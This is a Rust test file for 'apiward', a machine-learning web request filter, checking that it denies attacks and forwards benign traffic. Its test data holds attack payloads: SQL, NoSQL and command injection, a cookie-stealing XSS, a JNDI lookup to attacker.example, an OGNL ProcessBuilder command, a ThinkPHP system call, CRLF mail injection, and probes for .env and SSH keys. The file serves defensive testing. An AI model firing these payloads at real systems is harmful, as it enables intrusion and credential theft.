//! The shipped model through the same engine the filter runs, on real-looking requests.
#![allow(clippy::unwrap_used)] // test helpers outside #[test] functions

use apiward::config::{Config, ModelSource};
use apiward::corpus::RequestRecord;
use apiward::engine::Engine;
use apiward::model::{sha256_hex, ModelMetadata, EMBEDDED_METADATA, EMBEDDED_ONNX};
use apiward::policy::Action;

fn engine(config_json: &str) -> Engine {
    Engine::new(Config::from_json(config_json.as_bytes()).unwrap()).unwrap()
}

fn decide(engine: &Engine, record_json: &str) -> apiward::policy::Decision {
    let record = RequestRecord::from_json(record_json).unwrap();
    let view = record.to_view(engine.config().max_body_bytes).unwrap();
    let policy = engine.route(&view.path);
    engine.evaluate(&view, &policy).unwrap().decision
}

const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "sqli",
        r#"{"uri":"/api/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"}"#,
        "query:q",
    ),
    (
        "xss",
        r#"{"method":"POST","uri":"/api/orders","headers":{"content-type":"application/json"},"body":"{\"sku\":\"BK-1\",\"note\":\"<img src=x onerror=alert(document.cookie)>\"}"}"#,
        "json:$.note",
    ),
    (
        "path_traversal",
        r#"{"uri":"/api/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd"}"#,
        "path",
    ),
    (
        "cmdi",
        r#"{"method":"POST","uri":"/api/comments","headers":{"content-type":"application/x-www-form-urlencoded"},"body":"author=bob&text=nice%3B%20cat%20%2Fetc%2Fpasswd"}"#,
        "form:text",
    ),
    (
        "nosqli",
        r#"{"method":"POST","uri":"/api/login","headers":{"content-type":"application/json"},"body":"{\"username\":\"admin\",\"password\":{\"$ne\":null}}"}"#,
        "json:$.password",
    ),
    (
        "jndi",
        r#"{"uri":"/api/users/2","headers":{"user-agent":"${jndi:ldap://attacker.example:1389/a}"}}"#,
        "header:user-agent",
    ),
];

const BENIGN: &[&str] = &[
    r#"{"uri":"/api/users/2?fields=name,email","headers":{"user-agent":"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"}}"#,
    r#"{"uri":"/api/search?q=select%20your%20plan&sort=-created_at&page=2"}"#,
    r#"{"method":"POST","uri":"/api/orders","headers":{"content-type":"application/json"},"body":"{\"user_id\":2,\"sku\":\"BK-0042\",\"quantity\":2,\"shipping\":{\"city\":\"Lyon\",\"zip\":\"69002\",\"notes\":\"Drop-off at the back door, please.\"}}"}"#,
    r#"{"method":"POST","uri":"/api/comments","headers":{"content-type":"application/x-www-form-urlencoded"},"body":"author=Alan&text=Thanks%2C+the+delivery+was+quick%21"}"#,
    r#"{"uri":"/api/files/reports/2024/q1-summary.pdf"}"#,
];

#[test]
fn shipped_model_matches_its_metadata_checksum_and_schema() {
    let metadata = ModelMetadata::from_json(EMBEDDED_METADATA).unwrap();
    assert_eq!(
        metadata.onnx_sha256.as_deref(),
        Some(sha256_hex(EMBEDDED_ONNX).as_str())
    );
    metadata.verify(EMBEDDED_ONNX).unwrap();
}

#[test]
fn attacks_are_denied_in_enforce_mode_with_class_and_location() {
    let engine = engine(r#"{"mode":"enforce"}"#);
    for (class, record, location) in ATTACKS {
        let d = decide(&engine, record);
        assert_eq!(d.action, Action::Deny, "{class}: {d}");
        assert!(d.blocks(), "{class}: {d}");
        assert_eq!(d.class, *class, "{d}");
        assert!(
            d.reasons[0].ends_with(&format!("at {location}")),
            "{class}: {d}"
        );
    }
}

/// Benign calls are forwarded: allowed, or annotated (a header and a count, never a block) when a
/// value sits between the annotate and deny thresholds. The annotate threshold is calibrated for
/// about 1 % of benign requests on validation, so a search for "select your plan" may carry an
/// annotation; it must stay well below deny.
#[test]
fn benign_api_calls_are_forwarded_well_below_deny() {
    let engine = engine(r#"{"mode":"enforce"}"#);
    let deny = ModelMetadata::from_json(EMBEDDED_METADATA)
        .unwrap()
        .thresholds
        .deny;
    let mut annotated = 0;
    for record in BENIGN {
        let d = decide(&engine, record);
        assert!(
            matches!(d.action, Action::Allow | Action::Annotate),
            "{record}: {d}"
        );
        assert!(!d.blocks(), "{record}: {d}");
        assert!(d.risk < deny / 2.0, "{record}: {d} (deny at {deny})");
        annotated += usize::from(d.action == Action::Annotate);
    }
    assert!(annotated <= 1, "{annotated} of {} annotated", BENIGN.len());
}

#[test]
fn inert_values_are_not_scored_and_decisions_do_not_change() {
    let serving = engine(r#"{"mode":"enforce"}"#);
    let every_value = engine(r#"{"mode":"enforce","skip_inert_values":false}"#);
    let rows = |engine: &Engine, record: &str| {
        let view = RequestRecord::from_json(record)
            .unwrap()
            .to_view(engine.config().max_body_bytes)
            .unwrap();
        engine.evaluate(&view, &engine.route(&view.path)).unwrap()
    };
    // The path and `name,email` are inert; the user agent (brackets, `;`) is scored.
    let (served, all) = (rows(&serving, BENIGN[0]), rows(&every_value, BENIGN[0]));
    assert_eq!((served.rows, all.rows), (1, 3), "{}", served.decision);
    assert_eq!(served.decision.action, Action::Allow);
    assert!(served.decision.reasons[0].starts_with("model:benign risk="));
    // Nothing of the order reaches the model: the path and the sentence "Drop-off at the back
    // door, please." are inert, and its `Content-Type` is a well-formed media type (`/` is no
    // inert byte, and the header is where OGNL payloads travel, so it is read by its grammar).
    let (served, all) = (rows(&serving, BENIGN[2]), rows(&every_value, BENIGN[2]));
    assert_eq!((served.rows, all.rows), (0, 3), "{}", served.decision);
    assert_eq!(served.decision.action, Action::Allow);
    // The same order with an OGNL expression as its `Content-Type` is scored and denied.
    let ognl = BENIGN[2].replace(
        "application/json",
        "%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    );
    let served = rows(&serving, &ognl);
    assert_eq!(served.decision.action, Action::Deny, "{}", served.decision);
    assert!(
        served.decision.reasons[0].ends_with("at header:content-type"),
        "{}",
        served.decision
    );
    // Nothing in a request made of inert values reaches the model.
    let (served, all) = (rows(&serving, BENIGN[4]), rows(&every_value, BENIGN[4]));
    assert_eq!((served.rows, all.rows), (0, 1), "{}", served.decision);
    assert_eq!(served.decision.reasons, vec!["nothing to score"]);
    // Every payload keeps its row and its verdict.
    for (class, record, _) in ATTACKS {
        let (a, b) = (rows(&serving, record), rows(&every_value, record));
        assert_eq!(a.decision.action, b.decision.action, "{class}");
        assert_eq!(a.decision.reasons[0], b.decision.reasons[0], "{class}");
    }
}

#[test]
fn monitor_mode_decides_the_same_but_never_blocks() {
    let engine = engine("{}");
    for (_, record, _) in ATTACKS {
        let d = decide(&engine, record);
        assert_eq!(d.action, Action::Deny);
        assert!(!d.blocks());
    }
}

#[test]
fn route_overrides_and_skip_apply_but_dot_segments_defeat_skip() {
    let engine = engine(
        r#"{"mode":"enforce","routes":[{"prefix":"/healthz","skip":true},{"prefix":"/api/search","mode":"monitor"},{"prefix":"/api/files","thresholds":{"annotate":0.0,"deny":0.0}}]}"#,
    );
    assert!(engine.route("/healthz/live").skip);
    assert!(!engine.route("/healthz/../api/admin").skip);
    assert!(!engine.route("/healthz/%2e%2e/api/admin").skip);
    assert!(!engine.route("/healthz/..;/api/admin").skip);
    let d = decide(&engine, ATTACKS[0].1);
    assert_eq!(d.action, Action::Deny);
    assert!(!d.blocks(), "monitor route");
    // A zero deny threshold on /api/files turns even a benign file request into a deny.
    let d = decide(&engine, BENIGN[4]);
    assert_eq!(
        d.action,
        Action::Deny,
        "route thresholds on /api/files: {d}"
    );
}

#[test]
fn inline_model_is_loaded_and_a_wrong_checksum_is_rejected_naming_model() {
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(EMBEDDED_ONNX);
    let cfg = format!(
        r#"{{"model":{{"source":"inline","onnx_base64":"{b64}","metadata":{EMBEDDED_METADATA}}}}}"#
    );
    let config = Config::from_json(cfg.as_bytes()).unwrap();
    assert!(matches!(config.model, ModelSource::Inline { .. }));
    Engine::new(config).unwrap();

    let mut metadata: serde_json::Value = serde_json::from_str(EMBEDDED_METADATA).unwrap();
    metadata["onnx_sha256"] = "00".repeat(32).into();
    let cfg =
        format!(r#"{{"model":{{"source":"inline","onnx_base64":"{b64}","metadata":{metadata}}}}}"#);
    let err = Engine::new(Config::from_json(cfg.as_bytes()).unwrap())
        .err()
        .expect("checksum mismatch must be refused")
        .to_string();
    assert!(
        err.starts_with("model: ") && err.contains("sha256"),
        "{err}"
    );
}

#[test]
fn thresholds_are_checked_against_the_model_defaults() {
    // annotate above the model's default deny threshold: only detectable at load.
    let metadata = ModelMetadata::from_json(EMBEDDED_METADATA).unwrap();
    let annotate = (metadata.thresholds.deny + 1.0) / 2.0;
    let cfg = format!(r#"{{"thresholds":{{"annotate":{annotate}}}}}"#);
    let err = Engine::new(Config::from_json(cfg.as_bytes()).unwrap())
        .err()
        .expect("annotate above deny must be refused")
        .to_string();
    assert!(err.starts_with("thresholds: "), "{err}");
}

#[test]
fn oversized_body_is_scored_on_its_prefix_and_says_so() {
    let engine = engine(r#"{"max_body_bytes":1024}"#);
    let body = format!("{{\"note\":\"{}\"}}", "lorem ipsum ".repeat(1000));
    let record = serde_json::json!({"method":"POST","uri":"/api/notes","headers":{"content-type":"application/json"},"body":body});
    let d = decide(&engine, &record.to_string());
    assert!(
        d.reasons
            .iter()
            .any(|r| r.starts_with("body truncated: first 1024 bytes")),
        "{d}"
    );
}

fn assess_at(
    engine: &Engine,
    store: &apiward::state::MemStore,
    record_json: &str,
    client_ip: &str,
    now_ms: u64,
) -> apiward::engine::Assessment {
    let record = RequestRecord::from_json(record_json).unwrap();
    let mut view = record.to_view(engine.config().max_body_bytes).unwrap();
    view.client.ip = Some(client_ip.to_string());
    let facts = engine.request_facts(&view);
    let policy = engine.route(&view.path);
    engine
        .assess(&view, &facts, &policy, store, now_ms)
        .unwrap()
}

#[test]
fn with_behaviour_single_requests_get_the_model_decision() {
    let engine = engine(r#"{"mode":"enforce"}"#);
    let store = apiward::state::MemStore::new();
    let now = 1_700_000_000_000;
    for (i, (_, record, _)) in ATTACKS.iter().enumerate() {
        let a = assess_at(&engine, &store, record, &format!("192.0.2.{i}"), now);
        assert_eq!(a.decision, decide(&engine, record), "{record}");
        assert!(a.learning && a.model_scored && a.errors.is_empty());
    }
    for (i, record) in BENIGN.iter().enumerate() {
        let a = assess_at(&engine, &store, record, &format!("198.51.100.{i}"), now);
        assert_eq!(a.decision, decide(&engine, record), "{record}");
    }
}

#[test]
fn behaviour_disabled_gives_model_only_decisions_and_writes_nothing() {
    let engine = engine(r#"{"mode":"enforce","behaviour":{"enabled":false}}"#);
    assert!(engine.behaviour().is_none());
    let store = apiward::state::MemStore::new();
    for (_, record, _) in ATTACKS {
        for _ in 0..5 {
            let a = assess_at(&engine, &store, record, "203.0.113.1", 1_700_000_000_000);
            assert_eq!(a.decision, decide(&engine, record));
        }
    }
    assert_eq!(store.key_count(), 0);
}

#[test]
fn repeated_injections_from_one_client_block_it_on_every_worker() {
    let config = r#"{"mode":"enforce"}"#;
    let (worker1, worker2) = (engine(config), engine(config));
    let store = apiward::state::MemStore::new();
    let now = 1_700_000_000_000;
    let sqli = ATTACKS[0].1;
    let first = assess_at(&worker1, &store, sqli, "203.0.113.66", now);
    let second = assess_at(&worker2, &store, sqli, "203.0.113.66", now + 1000);
    let third = assess_at(&worker1, &store, sqli, "203.0.113.66", now + 2000);
    assert_eq!(first.decision.action, Action::Deny);
    assert_eq!(second.decision.action, Action::Deny);
    assert_eq!(third.decision.action, Action::Block, "{}", third.decision);
    assert_eq!(third.decision.class, "sqli");
    assert!(third.decision.reasons[0]
        .starts_with("escalation: block client for 600s: model deny 3 of 3 from this client"));
    // Now even a benign request from that client is refused, on the other worker too, unscored.
    let after = assess_at(&worker2, &store, BENIGN[0], "203.0.113.66", now + 3000);
    assert_eq!(after.decision.action, Action::Deny);
    assert!(!after.model_scored);
    assert!(after.decision.reasons[0]
        .starts_with("blocked: client 203.0.113.66 for 599s more (model_denies, block 1)"));
    assert_eq!(after.decision.local_reply("i").unwrap().status, 403);
    let other = assess_at(&worker2, &store, BENIGN[0], "198.51.100.7", now + 3000);
    assert_eq!(other.decision.action, Action::Allow);
    // Monitor mode decides the same and blocks nothing.
    let monitor = engine("{}");
    let store = apiward::state::MemStore::new();
    for i in 0..5 {
        let a = assess_at(&monitor, &store, sqli, "203.0.113.66", now + i * 1000);
        assert!(!a.decision.blocks());
        if i >= 2 {
            assert_eq!(a.decision.action, Action::Block);
        }
    }
}

/// Real clients' user agents; the consensus tests put the most suspicious one the shipped model
/// scores into a discount zone by choosing the route's thresholds just below its score.
const CONSENSUS_CANDIDATES: &[&str] = &[
    "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
    "cmd.exe backup job/1.0 (Windows Server 2019)",
    "bash-script/1.0 (deploy; linux)",
    "Boost.Beast/345",
    "sh-deploy/2.0 (bash; ci)",
    "Jenkins/2.440 (build; sh)",
    "ansible-httpapi/2.16 (python3; linux)",
];

/// A consensus scenario: the user agent, a JNDI-syntax value in the same zone, and the config.
struct ConsensusZone {
    sdk: String,
    jndi_syntax: String,
    risk: f32,
    config: String,
}

#[allow(clippy::panic)] // a test helper: no zone means the tests cannot run
fn consensus_zone() -> ConsensusZone {
    use apiward::consensus::discounted;
    let plain = engine(r#"{"mode":"enforce"}"#);
    let risk = |ua: &str| decide(&plain, &with_user_agent(ua)).risk;
    let jndi: Vec<String> = CONSENSUS_CANDIDATES
        .iter()
        .flat_map(|ua| {
            [
                format!("{ua} jndi:build"),
                format!("{ua} (jndi:x)"),
                format!("jndi:build {ua}"),
            ]
        })
        .collect();
    let mut by_risk: Vec<(&str, f32)> = CONSENSUS_CANDIDATES
        .iter()
        .map(|ua| (*ua, risk(ua)))
        .collect();
    by_risk.sort_by(|a, b| b.1.total_cmp(&a.1));
    for (ua, r) in by_risk {
        let deny = r - 0.01;
        for m in [
            (0.45 * deny).min(0.3),
            (0.6 * deny).min(0.5),
            (0.8 * deny).min(0.5),
        ] {
            if deny < 0.02 || m < 0.01 {
                continue;
            }
            let in_zone = |x: f32| x >= deny + 0.005 && discounted(x, deny, m) < deny - 0.01;
            if !in_zone(r) {
                continue;
            }
            let Some(j) = jndi.iter().find(|v| in_zone(risk(v))) else {
                continue;
            };
            let to = discounted(r, deny, m);
            let annotate = (deny / 2.0).min(to - 0.02).max(0.005);
            return ConsensusZone {
                sdk: ua.to_string(),
                jndi_syntax: j.clone(),
                risk: r,
                config: format!(
                    r#"{{"mode":"enforce",
    "routes":[{{"prefix":"/api/","thresholds":{{"annotate":{annotate},"deny":{deny}}}}}],
    "behaviour":{{"signals":{{"model_denies":{{"limit":1000}}}}}},
    "consensus":{{"min_clients":4,"min_age_s":2,"window_s":60,"max_discount":{m}}}}}"#
                ),
            };
        }
    }
    panic!("no candidate user agent can be put in a discount zone");
}

fn with_user_agent(ua: &str) -> String {
    serde_json::json!({"uri": "/api/users/2", "headers": {"user-agent": ua}}).to_string()
}

#[test]
fn consensus_of_many_networks_over_time_discounts_a_false_positive_within_bounds() {
    use apiward::consensus::Outcome;
    let zone = consensus_zone();
    let engine = engine(&zone.config);
    let store = apiward::state::MemStore::new();
    let t0 = 1_700_000_000_000u64;
    let sdk = with_user_agent(&zone.sdk);
    let jndi_syntax = with_user_agent(&zone.jndi_syntax);
    let sqli = ATTACKS[0].1;
    for (i, t) in [0u64, 600, 1200, 1800].iter().enumerate() {
        let ip = format!("198.51.{i}.7");
        let a = assess_at(&engine, &store, &sdk, &ip, t0 + t);
        assert_eq!(a.decision.action, Action::Deny, "{}", a.decision);
        assert_eq!(
            a.consensus,
            Some(Outcome::Recorded {
                clients: i as u32 + 1
            })
        );
        let a = assess_at(&engine, &store, &jndi_syntax, &ip, t0 + t);
        assert_eq!(a.decision.action, Action::Deny);
        // Exempt for its syntax, its class or its share in exempt classes, whichever the
        // model's output reaches first; never discounted.
        assert!(
            matches!(&a.consensus, Some(Outcome::Exempt(why))
                if why == "jndi (jndi:)" || why == "class jndi" || why.ends_with("in exempt classes")),
            "{:?}",
            a.consensus
        );
        let a = assess_at(&engine, &store, sqli, &ip, t0 + t);
        assert_eq!(
            (a.decision.action, a.consensus.clone()),
            (Action::Deny, None)
        );
    }
    let a = assess_at(&engine, &store, &sdk, "198.51.0.7", t0 + 2000);
    let d = &a.decision;
    assert_eq!((d.action, d.enforced), (Action::Annotate, false), "{d}");
    let c = d.consensus.as_ref().expect("a discount");
    assert_eq!((c.clients, c.age_ms), (4, 2000));
    assert!((c.from - zone.risk).abs() < 1e-4 && c.to < c.from, "{c:?}");
    assert_eq!(d.risk, c.to);
    assert_eq!(d.reasons[1], c.reason(), "{d}");
    assert!(d.reasons[1].starts_with("consensus: 4 clients since 2s on header:user-agent, risk 0."));
    // The strong attack and the hard-syntax value stay denied.
    assert_eq!(
        assess_at(&engine, &store, sqli, "198.51.0.7", t0 + 2000)
            .decision
            .action,
        Action::Deny
    );
    assert_eq!(
        assess_at(&engine, &store, &jndi_syntax, "198.51.0.7", t0 + 2000)
            .decision
            .action,
        Action::Deny
    );
}

#[test]
fn consensus_needs_behaviour_to_clear_the_request() {
    use apiward::consensus::Outcome;
    // An allowlisted client is exempt from behaviour, so behaviour never cleared it.
    let zone = consensus_zone();
    let config = zone.config.replace(
        r#""mode":"enforce","#,
        r#""mode":"enforce","allowlist":{"cidrs":["198.51.0.0/16"]},"#,
    );
    let engine = engine(&config);
    let store = apiward::state::MemStore::new();
    let sdk = with_user_agent(&zone.sdk);
    for i in 0..6u64 {
        let a = assess_at(
            &engine,
            &store,
            &sdk,
            &format!("198.51.{i}.7"),
            1_700_000_000_000 + i * 600,
        );
        assert_eq!((a.decision.action, a.consensus), (Action::Deny, None));
    }
    let a = assess_at(&engine, &store, &sdk, "203.0.113.7", 1_700_000_010_000);
    assert_eq!(a.consensus, Some(Outcome::Recorded { clients: 1 }));
}

fn evaluate(engine: &Engine, record_json: &str) -> apiward::engine::Evaluation {
    let view = RequestRecord::from_json(record_json)
        .unwrap()
        .to_view(engine.config().max_body_bytes)
        .unwrap();
    engine.evaluate(&view, &engine.route(&view.path)).unwrap()
}

fn get(uri: &str) -> String {
    serde_json::json!({"uri": uri}).to_string()
}

#[test]
fn restricted_resources_are_denied_without_the_model_naming_the_rule() {
    let engine = engine(r#"{"mode":"enforce"}"#);
    for (uri, reason) in [
        (
            "/.git/config",
            "probe:restricted_file metadata:.git at path",
        ),
        (
            "/index.php.bak",
            "probe:restricted_file backup:.bak at path",
        ),
        (
            "/%2egit;/config",
            "probe:restricted_file metadata:.git at path",
        ),
        (
            "/api/.env.production",
            "probe:restricted_file secret:.env.* at path",
        ),
        (
            "/backup.sql.gz?download=1",
            "probe:restricted_file dump:.sql at path",
        ),
    ] {
        let ev = evaluate(&engine, &get(uri));
        let d = &ev.decision;
        assert_eq!(
            (d.action, d.class.as_str()),
            (Action::Deny, "restricted_file"),
            "{uri}: {d}"
        );
        assert!(d.blocks(), "{uri}: {d}");
        assert_eq!(
            d.reasons,
            vec![reason, "model not run: restricted resource"],
            "{uri}"
        );
        assert_eq!((ev.rows, d.location.as_deref()), (0, Some("path")));
        assert_eq!(d.local_reply("i").unwrap().status, 403);
    }
    // The body is not read either: an injection in it changes nothing.
    let post = r#"{"method":"POST","uri":"/.env","headers":{"content-type":"application/json"},"body":"{\"q\":\"1' UNION SELECT password FROM users--\"}"}"#;
    let ev = evaluate(&engine, post);
    assert_eq!(
        (ev.decision.class.as_str(), ev.rows),
        ("restricted_file", 0)
    );
    // REST calls are not probes: the decisions are the model's.
    for record in BENIGN {
        assert_eq!(evaluate(&engine, record).decision.probe, None, "{record}");
    }
    for uri in [
        "/api/v1/backups",
        "/.well-known/openid-configuration",
        "/actuator/loggers/org.hibernate.SQL",
    ] {
        let d = evaluate(&engine, &get(uri)).decision;
        assert_eq!((d.action, d.probe), (Action::Allow, None), "{uri}");
    }
}

#[test]
fn monitor_mode_scores_a_probe_and_annotates_what_enforce_would_deny() {
    let engine = engine("{}");
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0";
    let record = serde_json::json!({"uri": "/.git/config", "headers": {"user-agent": ua}});
    let ev = evaluate(&engine, &record.to_string());
    let d = &ev.decision;
    assert_eq!(
        (d.action, d.class.as_str(), d.blocks()),
        (Action::Deny, "restricted_file", false)
    );
    assert_eq!(d.reasons[0], "probe:restricted_file metadata:.git at path");
    assert!(d.reasons[1].starts_with("model:benign risk="), "{d}");
    assert_eq!(ev.rows, 1, "the user agent was scored");
    // A route in enforce mode on a monitor listener denies.
    let engine = self::engine(r#"{"routes":[{"prefix":"/admin/","mode":"enforce"}]}"#);
    assert!(evaluate(&engine, &get("/admin/.htpasswd"))
        .decision
        .blocks());
    assert!(!evaluate(&engine, &get("/.htpasswd")).decision.blocks());
}

#[test]
fn probes_annotate_when_configured_and_the_model_keeps_a_stronger_verdict() {
    let engine = engine(r#"{"mode":"enforce","probes":{"action":"annotate"}}"#);
    let d = evaluate(&engine, &get("/index.php.bak")).decision;
    assert_eq!(
        (d.action, d.class.as_str(), d.blocks()),
        (Action::Annotate, "restricted_file", false)
    );
    // An injection on a probed path is the model's deny, with the probe's reason after it.
    let d = evaluate(
        &engine,
        &get("/.env?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"),
    )
    .decision;
    assert_eq!((d.action, d.class.as_str()), (Action::Deny, "sqli"), "{d}");
    assert_eq!(d.reasons[1], "probe:restricted_file secret:.env at path");
    assert!(d.probe.is_some());
}

#[test]
fn probes_are_turned_off_per_route_and_globally() {
    let engine = engine(
        r#"{"mode":"enforce","routes":[{"prefix":"/files/","probes":false},{"prefix":"/files/private/"}],
            "probes":{"allow":[".pem"],"extra_extensions":[".log"]}}"#,
    );
    let d = evaluate(&engine, &get("/files/report.bak")).decision;
    assert_eq!((d.action, &d.probe), (Action::Allow, &None), "{d}");
    // A route without `probes` follows probes.enabled, however long its prefix.
    assert_eq!(
        evaluate(&engine, &get("/files/private/report.bak"))
            .decision
            .action,
        Action::Deny
    );
    assert_eq!(
        evaluate(&engine, &get("/api/report.bak")).decision.action,
        Action::Deny
    );
    assert_eq!(
        evaluate(&engine, &get("/certs/ca.pem")).decision.action,
        Action::Allow
    );
    let d = evaluate(&engine, &get("/var/error.log")).decision;
    assert_eq!(d.reasons[0], "probe:restricted_file custom:.log at path");

    // A dot segment leaves the route: its opt-out does not follow.
    for uri in [
        "/files/../.git/config",
        "/files/%2e%2e/.env",
        "/files/..;/backup.sql",
    ] {
        let d = evaluate(&engine, &get(uri)).decision;
        assert_eq!(
            (d.action, d.class.as_str()),
            (Action::Deny, "restricted_file"),
            "{uri}: {d}"
        );
    }

    let engine = self::engine(
        r#"{"mode":"enforce","probes":{"enabled":false},"routes":[{"prefix":"/admin/","probes":true}]}"#,
    );
    assert_eq!(
        evaluate(&engine, &get("/.git/config")).decision.action,
        Action::Allow
    );
    assert_eq!(
        evaluate(&engine, &get("/admin/.git/config"))
            .decision
            .action,
        Action::Deny
    );
}

#[test]
fn probes_answered_by_the_filter_count_as_404s_for_scanning_not_as_model_denies() {
    let engine = engine(
        r#"{"mode":"enforce","behaviour":{"signals":{"not_found":{"limit":3,"strong_factor":2}}}}"#,
    );
    let store = apiward::state::MemStore::new();
    let now = 1_700_000_000_000;
    let scanner = "203.0.113.99";
    let paths = [
        "/.git/config",
        "/.env",
        "/backup.sql",
        "/wp-config.php.bak",
        "/.ssh/id_rsa",
        "/.DS_Store",
        "/web.config",
    ];
    for (i, path) in paths.iter().enumerate() {
        let a = assess_at(&engine, &store, &get(path), scanner, now + i as u64 * 100);
        let d = &a.decision;
        assert_eq!(
            (d.action, d.class.as_str()),
            (Action::Deny, "restricted_file"),
            "{path}: {d}"
        );
        assert!(!a.model_scored && d.blocks(), "{path}");
        assert!(a.errors.is_empty(), "{:?}", a.errors);
    }
    // Seven probes are a 404 burst over twice its limit: the scanner's next request is denied
    // for it; three of them were no model denies, so there is no block.
    let a = assess_at(&engine, &store, BENIGN[0], scanner, now + 1000);
    let d = &a.decision;
    assert_eq!(
        (d.action, d.class.as_str()),
        (Action::Deny, "not_found"),
        "{d}"
    );
    assert!(d.block.is_none(), "{d}");
    let other = assess_at(&engine, &store, BENIGN[0], "198.51.100.99", now + 1000);
    assert_eq!(other.decision.action, Action::Allow);
    // In monitor mode the upstream answers the probe itself: nothing is counted here.
    let monitor =
        self::engine(r#"{"behaviour":{"signals":{"not_found":{"limit":3,"strong_factor":2}}}}"#);
    let store = apiward::state::MemStore::new();
    for (i, path) in paths.iter().enumerate() {
        let a = assess_at(&monitor, &store, &get(path), scanner, now + i as u64 * 100);
        assert_eq!(
            (a.decision.action, a.decision.blocks()),
            (Action::Deny, false)
        );
    }
    let a = assess_at(&monitor, &store, BENIGN[0], scanner, now + 1000);
    assert_eq!(a.decision.action, Action::Allow, "{}", a.decision);
}

#[test]
fn a_line_break_into_mail_is_a_crlf_probe_in_both_engine_paths_and_follows_the_route() {
    let record = serde_json::json!({
        "method": "POST", "uri": "/contact",
        "headers": {"content-type": "application/x-www-form-urlencoded"},
        "body": "name=Jane&email=jane%40example.com%0D%0ABcc%3A%20list%40victims.example&msg=hello",
    })
    .to_string();
    let engine =
        self::engine(r#"{"mode":"enforce","routes":[{"prefix":"/import/","probes":false}]}"#);
    let d = evaluate(&engine, &record).decision;
    assert_eq!(
        (d.action, d.class.as_str(), d.blocks()),
        (Action::Deny, "crlf", true)
    );
    assert_eq!(d.reasons[0], "probe:crlf mail:bcc at form:email", "{d}");
    let p = d.probe.as_ref().unwrap();
    assert_eq!((p.category, p.rule.as_str()), ("mail", "bcc"));
    // With behaviour, the same decision.
    let store = apiward::state::MemStore::new();
    let a = assess_at(&engine, &store, &record, "192.0.2.77", 1_700_000_000_000);
    assert_eq!(a.decision.reasons[0], d.reasons[0]);
    assert!(a.decision.blocks() && a.model_scored);
    // A route with probes off is the model's alone.
    let off = record.replace("/contact", "/import/contact");
    let d = evaluate(&engine, &off).decision;
    assert!(
        d.probe.is_none() && !d.reasons[0].starts_with("probe:"),
        "{d}"
    );
    // `probes.allow` turns one rule off.
    let engine = self::engine(r#"{"mode":"enforce","probes":{"allow":["mail:bcc"]}}"#);
    assert!(evaluate(&engine, &record).decision.probe.is_none());
}

#[test]
fn php_named_in_a_value_is_a_cmdi_probe_in_both_engine_paths_and_follows_the_route() {
    // ThinkPHP's invokefunction: every value is a bare word; the callable is passed by name.
    let record = get("/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id");
    let engine =
        self::engine(r#"{"mode":"enforce","routes":[{"prefix":"/docs/","probes":false}]}"#);
    let d = decide(&engine, &record);
    assert_eq!(
        (d.action, d.class.as_str(), d.blocks()),
        (Action::Deny, "cmdi", true),
        "{d}"
    );
    assert_eq!(
        d.reasons[0], "probe:cmdi php:function at query:function",
        "{d}"
    );
    let p = d.probe.as_ref().unwrap();
    assert_eq!((p.category, p.rule.as_str()), ("php", "function"));
    let store = apiward::state::MemStore::new();
    let a = assess_at(&engine, &store, &record, "192.0.2.78", 1_700_000_000_000);
    assert_eq!(a.decision.reasons[0], d.reasons[0]);
    assert!(a.decision.blocks());
    // A superglobal in a JSON value, a directive in a form.
    let json = serde_json::json!({
        "method": "POST", "uri": "/api/render",
        "headers": {"content-type": "application/json"},
        "body": r#"{"template":"{${$_SERVER['DOCUMENT_ROOT']}}"}"#,
    })
    .to_string();
    assert!(evaluate(&engine, &json).decision.reasons[0]
        .starts_with("probe:cmdi php:superglobal at json:"));
    // A route with probes off, and `probes.allow`, leave it to the model.
    let off = get("/docs/index.php?function=call_user_func_array");
    assert!(decide(&engine, &off).probe.is_none());
    let engine = self::engine(r#"{"mode":"enforce","probes":{"allow":["php:function"]}}"#);
    assert!(decide(&engine, &record).probe.is_none());
}

#[test]
fn a_score_cached_at_a_return_target_is_not_the_answer_for_the_same_url_elsewhere() {
    // `cancel_url` names where the client is sent back to, so a loopback URL there is not
    // SSRF; the same URL in `url=` (a server fetches it) is. The per-VM score cache must not
    // answer the second with the first's score.
    let engine = engine(r#"{"mode":"enforce"}"#);
    let fresh = decide(&engine, &get("/links?url=http%3A%2F%2F%5B%3A%3A1%5D%2F"));
    assert!(fresh.blocks(), "{fresh}");
    let engine = self::engine(r#"{"mode":"enforce"}"#);
    let first = decide(
        &engine,
        &get("/links?cancel_url=http%3A%2F%2F%5B%3A%3A1%5D%2F"),
    );
    assert!(!first.blocks(), "{first}");
    let second = decide(&engine, &get("/links?url=http%3A%2F%2F%5B%3A%3A1%5D%2F"));
    assert_eq!(second, fresh);
}
